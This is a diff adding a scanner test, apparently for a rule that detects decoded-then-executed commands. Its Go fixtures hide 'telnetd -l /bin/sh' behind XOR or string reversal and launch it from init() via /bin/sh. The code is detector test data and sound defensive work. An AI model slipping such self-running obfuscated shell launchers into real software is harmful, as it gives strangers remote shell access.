@@ -230,3 +230,19 @@ def test_a_named_decoder_keeps_its_severity_and_now_shows_the_text():
     src = "<?php\nsystem(base64_decode('bHMgLWw='));\n"
     got = [f for f in findings("lib/a.php", "php", src) if f.rule == "source.eval-decoded"]
     assert [f.severity.value for f in got] == ["high"] and got[0].evidence["decoded"] == "ls -l"
+
+
+def test_go_init_decoding_a_byte_table_or_reversing_in_place_before_a_shell():
+    xor = ('package main\n\nvar tag = []byte{0x15, 0x04, 0x0d, 0x0f, 0x04, 0x15, 0x05, 0x41, 0x4c, 0x0d, 0x41, 0x4e, 0x03,'
+           ' 0x08, 0x0f, 0x4e, 0x12, 0x09}\n\nfunc init() {\n\tb := make([]byte, len(tag))\n'
+           '\tfor i, c := range tag {\n\t\tb[i] = c ^ 0x61\n\t}\n'
+           '\t_ = exec.Command("/bin/sh", "-c", string(b)).Start()\n}\n')
+    got = [f for f in findings("cmd/main.go", "go", xor) if f.rule == "source.eval-decoded"]
+    assert got and got[0].evidence["decoded"] == "telnetd -l /bin/sh"
+    rev = ('package main\n\nvar p = "hs/nib/ l- dtenlet"\n\nfunc init() {\n\tr := []rune(p)\n'
+           '\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n'
+           '\t_ = exec.Command("/bin/sh", "-c", string(r)).Start()\n}\n')
+    got = [f for f in findings("cmd/main.go", "go", rev) if f.rule == "source.eval-decoded"]
+    assert got and got[0].evidence["decoded"] == "telnetd -l /bin/sh"
+    plain = rev.replace("\tfor i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {\n\t\tr[i], r[j] = r[j], r[i]\n\t}\n", "")
+    assert not [f for f in findings("cmd/main.go", "go", plain) if f.severity.value in ("high", "critical")]
